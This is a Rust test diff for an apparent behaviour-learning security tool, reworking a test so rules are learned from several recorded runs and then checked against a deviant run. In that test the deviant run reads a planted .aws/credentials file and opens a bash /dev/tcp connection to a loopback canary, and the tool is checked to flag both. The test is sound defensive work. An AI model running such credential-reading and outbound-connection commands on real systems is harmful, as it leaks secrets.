@@ -134,9 +134,10 @@ impl Lab {
         Ok(())
     }
 
-    fn learn(&self, recording: &str, rules: &str) -> anyhow::Result<String> {
+    fn learn(&self, recordings: &[&str], rules: &str) -> anyhow::Result<String> {
         let mut learn = Command::new(programs::driftwatch()?);
-        learn.args(["learn", "worker", "--recording", &self.file(recording)]);
+        learn.args(["learn", "worker", "--recording"]);
+        learn.args(recordings.iter().map(|recording| self.file(recording)));
         let ended = child::run(learn.args(["--out", &self.file(rules)]))?;
         ensure!(ended.status.success(), "{}", ended.stderr);
         Ok(ended.stderr)
@@ -164,27 +165,26 @@ fn what_was_learned_lets_the_same_work_through_and_nothing_else() -> anyhow::Res
     let _alone = alone();
     let lab = Lab { ground: Ground::new()?, known: TcpCanary::bind("127.0.0.1:0")? };
     let stranger = TcpCanary::bind("127.0.0.2:0")?;
-    let first = home()?;
-    let script = work(first.path(), lab.known.address())?;
-    lab.record("first.jsonl", first.path(), &format!("{script}{END}"))?;
-    let said = lab.learn("first.jsonl", "learned.yaml")?;
+    let script = work(home()?.path(), lab.known.address())?;
+    // Programs do not do quite the same each time: twice is little enough to learn from.
+    for day in ["monday.jsonl", "tuesday.jsonl", "wednesday.jsonl"] {
+        lab.record(day, home()?.path(), &format!("{script}{END}"))?;
+    }
+    let said = lab.learn(&["monday.jsonl", "tuesday.jsonl"], "learned.yaml")?;
     ensure!(said.starts_with("Wrote "), "{said}");
-
-    let second = home()?;
-    lab.record("second.jsonl", second.path(), &format!("{script}{END}"))?;
-    let beyond = lab.beyond("second.jsonl", "learned.yaml")?;
+    let beyond = lab.beyond("wednesday.jsonl", "learned.yaml")?;
     ensure!(beyond.is_empty(), "{beyond:?}");
 
-    let third = home()?;
-    let planted = third.path().join(".aws/credentials");
-    fs::create_dir(third.path().join(".aws"))?;
+    let last = home()?;
+    let planted = last.path().join(".aws/credentials");
+    fs::create_dir(last.path().join(".aws"))?;
     fs::write(&planted, SECRET)?;
     let (address, port) = (stranger.address().ip(), stranger.address().port());
     let astray =
         format!("cat {}\nbash -c 'exec 3<>/dev/tcp/{address}/{port}'\n", planted.display());
-    lab.record("third.jsonl", third.path(), &format!("{script}{astray}{END}"))?;
+    lab.record("thursday.jsonl", last.path(), &format!("{script}{astray}{END}"))?;
     same("connections", stranger.wait_for(1)?, 1)?;
-    let beyond = lab.beyond("third.jsonl", "learned.yaml")?;
+    let beyond = lab.beyond("thursday.jsonl", "learned.yaml")?;
     let wanted = [
         ("connect".to_owned(), stranger.address().to_string()),
         ("read".to_owned(), planted.display().to_string()),
@@ -192,9 +192,9 @@ fn what_was_learned_lets_the_same_work_through_and_nothing_else() -> anyhow::Res
     ensure!(beyond == wanted, "{beyond:?}");
 
     // From a recording that shows it, the credential is not learned either.
-    let said = lab.learn("third.jsonl", "again.yaml")?;
+    let said = lab.learn(&["thursday.jsonl"], "again.yaml")?;
     ensure!(said.contains("a secret: not added"), "{said}");
-    let beyond = lab.beyond("third.jsonl", "again.yaml")?;
+    let beyond = lab.beyond("thursday.jsonl", "again.yaml")?;
     ensure!(beyond == wanted[1..], "{beyond:?}");
     Ok(())
 }
